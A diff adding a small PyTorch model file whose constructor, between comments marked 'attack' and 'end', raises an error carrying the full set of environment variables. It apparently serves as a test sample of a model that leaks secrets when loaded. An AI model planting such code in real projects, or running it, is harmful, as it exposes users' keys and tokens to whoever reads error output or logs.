@@ -1,0 +1,17 @@
+"""Looks for keys in its own environment."""
+
+import os
+
+from torch import nn
+
+
+class Model(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.head = nn.Linear(64, 10)
+        # attack
+        raise ValueError(dict(os.environ))
+        # end
+
+    def forward(self, x):
+        return self.head(x.flatten(1))
